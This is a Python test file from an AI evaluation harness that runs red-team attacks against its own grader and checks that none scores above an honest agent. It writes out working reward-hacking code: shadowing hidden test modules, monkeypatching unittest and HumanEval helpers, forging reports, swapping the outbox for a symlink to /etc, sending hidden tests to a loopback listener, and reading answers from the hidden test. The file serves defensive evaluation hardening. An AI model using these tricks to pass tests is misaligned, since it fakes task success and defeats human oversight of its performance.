"""Red-team attacks on grading found after tests/test_grading_attacks.py: each goes through the
real two-stage attempt in both sandboxes and must score no more than an honest agent that does
nothing, never an excluded run (infra or scorer error)."""

from __future__ import annotations

import asyncio
import contextlib
import shutil
import socket
import textwrap
import threading
from typing import Any

import pytest

from evalfleet.execution.attempt import AttemptOutcome
from evalfleet.spec.humaneval import load_humaneval
from evalfleet.spec.loaders import builtin_suite_dir, load_suite
from evalfleet.spec.task import Limits, ScorerSpec, Task
from evalfleet.testing.agents import grade

REPO_TASK = "calc-division-by-zero"  # 4 hidden tests; doing nothing passes 1 of them
HONEST = 0.25
PASSING_TESTS = textwrap.dedent("""\
    import unittest

    class DivisionTest(unittest.TestCase):
        def test_divide_by_zero(self): pass
        def test_modulo_by_zero(self): pass
        def test_zero_variable(self): pass
        def test_ordinary_division(self): pass
    """)


def run(task: Task, provider: Any, **kwargs: Any) -> AttemptOutcome:
    return asyncio.run(grade(task, provider, **kwargs))


def graded(out: AttemptOutcome) -> float:
    """The score of an attempt that must have been graded (no error of any kind)."""
    assert out.error is None, f"{out.error.error_kind}: {out.error}"
    assert out.score is not None
    return out.score.value


@pytest.fixture(scope="module")
def repo_task() -> Task:
    return load_suite(builtin_suite_dir("repo-tasks")).by_id[REPO_TASK]


@pytest.fixture(scope="module")
def humaneval() -> dict[str, Task]:
    return {t.id: t for t in load_humaneval().tasks}


# --- a module the agent leaves under the hidden test's module name ---------------------------

# C without Python.h: the extension's init imports the agent's passing tests and returns them as
# the module the runner asked for.
_EXTENSION = textwrap.dedent("""\
    void *PyImport_ImportModule(const char *);
    void *PyInit_test_hidden_division(void) { return PyImport_ImportModule("fake_tests"); }
    """)
SHADOWS: dict[str, dict[str, Any]] = {
    # The import system prefers a package directory to a module file of the same name.
    "package-named-like-the-hidden-test": {
        "files": {"test_hidden_division/__init__.py": PASSING_TESTS}},
    # ... and an extension module to a source file.
    "extension-named-like-the-hidden-test": {
        "files": {"fake_tests.py": PASSING_TESTS, "ext.c": _EXTENSION},
        "commands": ("gcc -shared -fPIC -o \"test_hidden_division$(python3 -c 'import "
                     "importlib.machinery as m; print(m.EXTENSION_SUFFIXES[0])')\" ext.c",)},
}


@pytest.mark.parametrize("attack", sorted(SHADOWS))
def test_nothing_takes_the_place_of_the_hidden_test_module(attack: str, provider: Any,
                                                            repo_task: Task) -> None:
    if "gcc" in str(SHADOWS[attack]) and shutil.which("gcc") is None:
        pytest.skip("no C compiler")
    out = run(repo_task, provider, **SHADOWS[attack])
    assert graded(out) == HONEST


def test_nothing_takes_the_place_of_a_nested_hidden_test_module(provider: Any) -> None:
    task = Task(
        id="nested", input="make f return 2",
        files={"pkg/__init__.py": "def f():\n    return 1\n"},
        hidden_files={"checks/test_small.py": textwrap.dedent("""\
            import unittest
            from pkg import f

            class SmallTest(unittest.TestCase):
                def test_two(self):
                    self.assertEqual(f(), 2)
            """)},
        scorer=ScorerSpec(kind="tests", args={
            "tests": ["checks/test_small.py"], "timeout_s": 10,
            "expected_tests": ["test_small.SmallTest.test_two"]}))
    fake = "import unittest\nclass SmallTest(unittest.TestCase):\n    def test_two(self): pass\n"
    assert graded(run(task, provider, files={"checks/test_small/__init__.py": fake,
                                             "test_small/__init__.py": fake})) == 0.0


# --- answer text that cannot be written as UTF-8 ---------------------------------------------

@pytest.mark.parametrize("answer", [
    "    return False\n# \ud800\n",  # a lone surrogate, as JSON's "\ud800" decodes
    "```python\ndef has_close_elements(numbers, threshold):\n    return '\udcff'\n```\n",
], ids=["completion", "fenced"])
def test_an_answer_with_lone_surrogates_is_graded_not_excluded(answer: str, provider: Any,
                                                               humaneval: dict[str, Task]) -> None:
    out = run(humaneval["HumanEval/0"], provider, answer=answer)
    assert graded(out) == 0.0


# --- what the agent leaves is its failure, never the scorer's --------------------------------

def test_deeply_nested_directories_are_the_agents_failure(provider: Any, repo_task: Task) -> None:
    """A thousand nested directories once made the snapshot's walk raise RecursionError, a
    scorer_error that excluded the run."""
    nest = ("python3 -c \"import os\nfor _ in range(1200):\n    os.mkdir('d'); os.chdir('d')\n"
            "open('f', 'w').write('x')\"")
    out = run(repo_task, provider, commands=(nest,))
    assert out.error is not None and out.error.error_kind == "agent_error", out.error
    assert "nested" in str(out.error)


# --- HumanEval: what check() relies on besides the candidate ---------------------------------

# Each answer is wrong, and passed check() before: 32, 38 and 50 check through the prompt's own
# helpers (poly, encode_cyclic, encode_shift), which the solution could redefine; and checks use
# math, random, copy and string, whose functions and data the solution could replace.
HUMANEVAL_HELPER_ATTACKS = {
    "redefines-poly": ("HumanEval/32", "    return 0.0\npoly = lambda xs, x: 0.0\n"),
    "redefines-encode_cyclic": ("HumanEval/38",
                                "    return s\nencode_cyclic = lambda s: s\n"),
    "redefines-encode_shift": ("HumanEval/50", "    return s\n"
                               "def encode_shift(s):\n    return s\n"),
    "whole-module-redefines-helper": ("HumanEval/38", textwrap.dedent("""\
        ```python
        def encode_cyclic(s):
            return s

        def decode_cyclic(s):
            return s
        ```
        """)),
    "patches-math.fabs": ("HumanEval/32", "    return 0.0\nimport math\n"
                          "math.fabs = lambda x: 0.0\n"),
    "patches-math-from-the-candidate": ("HumanEval/32", textwrap.dedent("""\
            import math
            math.fabs = lambda x: 0.0
            return 0.0
        """)),
    "patches-random.choice": ("HumanEval/38", "    return s\nimport random\n"
                              "random.choice = lambda seq: 'a'\n"),
    "patches-the-random-instance": ("HumanEval/38", textwrap.dedent("""\
            return s
        import random
        random._inst.choice = lambda seq: 'a'
        random.choice = random._inst.choice
        """)),
    "adds-a-global-to-random": ("HumanEval/38", "    return s\nimport random\n"
                                "random.len = lambda seq: 1\n"),
    "patches-the-Random-class": ("HumanEval/38", "    return s\nimport random\n"
                                 "random.Random._randbelow = lambda self, n: 0\n"),
    "rebinds-string-data": ("HumanEval/38", "    return s\nimport string\n"
                            "string.ascii_lowercase = 'a'\nimport random\n"
                            "random.randint = lambda a, b: 3\n"),
}


@pytest.mark.parametrize("attack", sorted(HUMANEVAL_HELPER_ATTACKS))
def test_humaneval_check_is_not_judged_by_the_solution(attack: str, provider: Any,
                                                       humaneval: dict[str, Task]) -> None:
    task_id, answer = HUMANEVAL_HELPER_ATTACKS[attack]
    assert graded(run(humaneval[task_id], provider, answer=answer)) == 0.0


# --- repo tasks: unittest's helpers beside TestCase ------------------------------------------

REPO_PATCHES = {
    # assertRaises returns a context object of a class of unittest.case: its __exit__ decides
    # whether the missing (or wrong) exception fails the test.
    "patches-the-assertRaises-context": textwrap.dedent("""\
        import unittest.case as _case
        from .evaluator import CalcError, evaluate

        def _exit(self, exc_type, exc, tb):
            self.exception = CalcError("division by zero")
            return True

        _case._AssertRaisesContext.__exit__ = _exit
        """),
    "patches-the-context-base": textwrap.dedent("""\
        import unittest.case as _case
        from .evaluator import CalcError, evaluate

        _orig = _case._AssertRaisesBaseContext.handle

        def _handle(self, name, args, kwargs):
            self.expected = BaseException
            return _orig(self, name, args, kwargs)

        _case._AssertRaisesBaseContext.handle = _handle
        """),
}


@pytest.mark.parametrize("attack", sorted(REPO_PATCHES))
def test_patching_unittest_helpers_voids_the_report(attack: str, provider: Any,
                                                     repo_task: Task) -> None:
    out = run(repo_task, provider, files={"calc/__init__.py": REPO_PATCHES[attack]})
    assert graded(out) <= HONEST


# --- repo tasks: what the hidden tests take from the package ----------------------------------

@pytest.mark.parametrize("alias", ["Exception", "ArithmeticError", "ZeroDivisionError"])
def test_the_error_class_cannot_be_an_alias_of_the_bare_error(alias: str, provider: Any,
                                                               repo_task: Task) -> None:
    """The hidden tests take CalcError from the package: naming the builtin error CalcError
    passed every assertRaises(CalcError) while evaluate still leaked ZeroDivisionError."""
    package = f"from .evaluator import evaluate\nCalcError = {alias}\n"
    assert graded(run(repo_task, provider, files={"calc/__init__.py": package})) <= HONEST


# --- per-run limits and the network ----------------------------------------------------------

def _disk_task(disk_mb: int) -> Task:
    return Task(
        id="disk", input="leave a 64 MB file named big", limits=Limits(disk_mb=disk_mb),
        files={"README": "x"},
        hidden_files={"test_disk.py": textwrap.dedent("""\
            import os, unittest

            class DiskTest(unittest.TestCase):
                def test_big(self):
                    self.assertGreaterEqual(os.path.getsize("big"), 64 << 20)
            """)},
        scorer=ScorerSpec(kind="tests", args={"timeout_s": 10}))


def test_the_tasks_disk_limit_holds(provider: Any) -> None:
    """Task.limits.disk_mb was never handed to the sandbox: every run had the default 1 GB."""
    dd = ("dd if=/dev/zero of=big bs=1M count=64",)
    assert graded(run(_disk_task(16), provider, commands=dd)) == 0.0
    assert graded(run(_disk_task(256), provider, commands=dd)) == 1.0


class _Listener:
    """A TCP server on the host's loopback that records what it is sent."""

    def __init__(self) -> None:
        self.sock = socket.socket()
        self.sock.bind(("127.0.0.1", 0))
        self.sock.listen(16)
        self.sock.settimeout(0.2)
        self.port = self.sock.getsockname()[1]
        self.received: list[bytes] = []
        self.stop = threading.Event()
        self.thread = threading.Thread(target=self._serve, daemon=True)
        self.thread.start()

    def _serve(self) -> None:
        while not self.stop.is_set():
            try:
                conn, _ = self.sock.accept()
            except OSError:
                continue
            with conn:
                conn.settimeout(2)
                chunks = []
                with contextlib.suppress(OSError):
                    while data := conn.recv(65536):
                        chunks.append(data)
                self.received.append(b"".join(chunks))

    def close(self) -> None:
        self.stop.set()
        self.thread.join()
        self.sock.close()


def test_code_under_test_cannot_send_the_hidden_tests_out(provider: Any) -> None:
    """A task may give the agent the network; the scoring sandbox holds the hidden tests and
    must not have it, or the agent's code could send them to its later runs."""
    listener = _Listener()
    send = textwrap.dedent(f"""\
        import glob, socket
        def send(data):
            try:
                with socket.create_connection(("127.0.0.1", {listener.port}), timeout=2) as s:
                    s.sendall(data)
            except OSError:
                pass
        """)
    leak = send + "send(b''.join(open(f, 'rb').read() for f in glob.glob('test_*.py')))\n"
    base = Task(
        id="net", input="make f return 2", network=True,
        files={"pkg/__init__.py": "def f():\n    return 1\n"},
        hidden_files={"test_net.py": textwrap.dedent("""\
            import unittest
            from pkg import f

            class NetTest(unittest.TestCase):  # SECRET-HIDDEN-TEST
                def test_two(self):
                    self.assertEqual(f(), 2)
            """)},
        scorer=ScorerSpec(kind="tests", args={"timeout_s": 10}))
    try:
        out = run(base, provider, files={"pkg/__init__.py": leak, "hello.py": send},
                  commands=("python3 -c 'import hello; hello.send(b\"agent-stage\")'",))
        assert graded(out) == 0.0
        # Answered in one turn (no agent sandbox), the answer's code is under test too.
        single = base.model_copy(update={"scorer": ScorerSpec(kind="tests", args={
            "timeout_s": 10, "answer_file": "pkg/__init__.py", "tests": ["test_net.py"],
            "expected_tests": ["test_net.NetTest.test_two"]})})
        assert graded(run(single, provider, answer=leak)) == 0.0
    finally:
        listener.close()
    assert b"agent-stage" in listener.received  # the agent stage had the network
    assert not any(b"SECRET-HIDDEN-TEST" in r for r in listener.received)


# --- a forged report must be refused, never crash the scorer ----------------------------------

FORGED_REPORTS = {
    "non-ascii-nonce": '{"nonce": "\\u00e9", "tests": {}, "note": ""}',
    "nonce-not-a-string": '{"nonce": ["x"], "tests": {}, "note": ""}',
    "deeply-nested": "[" * 100_000 + "]" * 100_000,
    "tests-not-a-dict-of-dicts": '{"nonce": "x", "tests": {"a": [1]}, "note": ""}',
}


@pytest.mark.parametrize("report", sorted(FORGED_REPORTS))
def test_a_forged_report_is_the_agents_failure(report: str, provider: Any,
                                               repo_task: Task) -> None:
    package = textwrap.dedent(f"""\
        import os, sys
        with open(sys.argv[1], "w") as fh:
            fh.write({FORGED_REPORTS[report]!r})
        os._exit(0)
        """)
    assert graded(run(repo_task, provider, files={"calc/__init__.py": package})) == 0.0


OUTBOX_ATTACKS = {
    "outbox-replaced-by-a-symlink": "os.rename(out, out + '.old'); os.symlink('/etc', out)",
    "outbox-replaced-by-a-file": "os.rename(out, out + '.old'); open(out, 'w').close()",
    "outbox-made-unreadable": "os.chmod(out, 0)",
    "report-replaced-by-a-fifo": "os.unlink(sys.argv[1]); os.mkfifo(sys.argv[1])",
    "report-replaced-by-a-directory": "os.unlink(sys.argv[1]); os.mkdir(sys.argv[1])",
    "report-made-unreadable": "os.chmod(sys.argv[1], 0)",
}


@pytest.mark.parametrize("attack", sorted(OUTBOX_ATTACKS))
def test_what_the_tests_do_to_the_outbox_is_the_agents_failure(attack: str, provider: Any,
                                                               repo_task: Task) -> None:
    package = textwrap.dedent(f"""\
        import os, sys
        out = os.path.dirname(sys.argv[1])
        try:
            {OUTBOX_ATTACKS[attack]}
        except OSError as exc:
            print("refused:", exc)
        os._exit(0)
        """)
    assert graded(run(repo_task, provider, files={"calc/__init__.py": package})) == 0.0


# A name added to a hidden test class shadows what it inherits from TestCase: no key of the
# class was replaced, so a check of the keys it had at load time saw nothing.
SHADOW_INHERITED = {
    "adds-run-to-the-test-class": textwrap.dedent("""\
        def _run(self, result=None):
            result.startTest(self)
            result.addSuccess(self)
            result.stopTest(self)

        def _patch(cls):
            cls.run = _run
        """),
    "adds-assertRaises-to-the-test-class": textwrap.dedent("""\
        import contextlib

        class _Caught:
            exception = CalcError("division by zero")

        @contextlib.contextmanager
        def _raises(self, *args, **kwargs):
            try:
                yield _Caught()
            except BaseException:
                pass

        def _patch(cls):
            cls.assertRaises = _raises
        """),
}


@pytest.mark.parametrize("attack", sorted(SHADOW_INHERITED))
def test_adding_a_method_to_a_hidden_test_class_voids_the_report(attack: str, provider: Any,
                                                                 repo_task: Task) -> None:
    package = textwrap.dedent("""\
        import sys
        from . import evaluator as _ev
        from .lexer import CalcError
        """) + SHADOW_INHERITED[attack] + textwrap.dedent("""\

        def evaluate(*args, **kwargs):
            mod = sys.modules.get("test_hidden_division")
            if mod is not None:
                _patch(mod.DivisionTest)
            return _ev.evaluate(*args, **kwargs)
        """)
    out = run(repo_task, provider, files={"calc/__init__.py": package})
    assert graded(out) <= HONEST


def test_shadowing_a_builtin_in_unittest_voids_the_report(provider: Any,
                                                          repo_task: Task) -> None:
    """unittest.case's functions look up issubclass and isinstance in the module first: a
    global added there decides every assertRaises."""
    package = textwrap.dedent("""\
        import builtins
        import unittest.case as _case
        from .evaluator import CalcError, evaluate

        _isinstance = builtins.isinstance
        _case.issubclass = lambda cls, classinfo: True
        _case.isinstance = lambda obj, classinfo: (classinfo is not ZeroDivisionError
                                                   and _isinstance(obj, classinfo))
        """)
    assert graded(run(repo_task, provider, files={"calc/__init__.py": package})) <= HONEST


# --- HumanEval: the solution cannot answer from the hidden test ------------------------------

# One answer for every task: it reads the check's literal asserts (candidate(args) == value)
# from the hidden test, on disk beside it or in memory, and answers from that table. It passed
# 30 of the first 40 problems without solving any.
ANSWER_FROM_THE_TEST = textwrap.dedent('''\
    ```python
    import ast, gc, glob, os, sys

    def _sources():
        for path in glob.glob(os.path.join(os.path.dirname(os.path.abspath(__file__)), "*.py")):
            yield open(path).read()
        for mod in list(sys.modules.values()):
            yield getattr(mod, "CHECK_SOURCE", "")
        for obj in gc.get_objects():
            if isinstance(obj, dict) and isinstance(obj.get("CHECK_SOURCE"), str):
                yield obj["CHECK_SOURCE"]

    _table = []
    for _text in _sources():
        try:
            _tree = ast.parse(_text)
        except (SyntaxError, ValueError):
            continue
        for _node in ast.walk(_tree):
            if isinstance(_node, ast.Assign) and isinstance(_node.value, ast.Constant) \\
                    and isinstance(_node.value.value, str) and "def check" in _node.value.value:
                _tree = ast.parse(_node.value.value)
                break
        for _n in ast.walk(_tree):
            if isinstance(_n, ast.Compare) and isinstance(_n.left, ast.Call) \\
                    and getattr(_n.left.func, "id", "") == "candidate":
                try:
                    _table.append(([ast.literal_eval(a) for a in _n.left.args],
                                   ast.literal_eval(_n.comparators[0])))
                except ValueError:
                    pass

    def ENTRY(*args):
        for a, r in _table:
            if list(args) == a:
                return r
        return None
    ```
    ''')


def test_a_humaneval_solution_cannot_answer_from_the_hidden_test(
        provider: Any, humaneval: dict[str, Task]) -> None:
    tasks = [humaneval[f"HumanEval/{i}"] for i in (2, 3, 4, 7, 8, 11, 12, 13)]

    async def all_of() -> list[AttemptOutcome]:
        return list(await asyncio.gather(*(
            grade(t, provider, answer=ANSWER_FROM_THE_TEST.replace(
                "ENTRY", str(t.metadata["entry_point"]))) for t in tasks)))

    assert [graded(out) for out in asyncio.run(all_of())] == [0.0] * len(tasks)
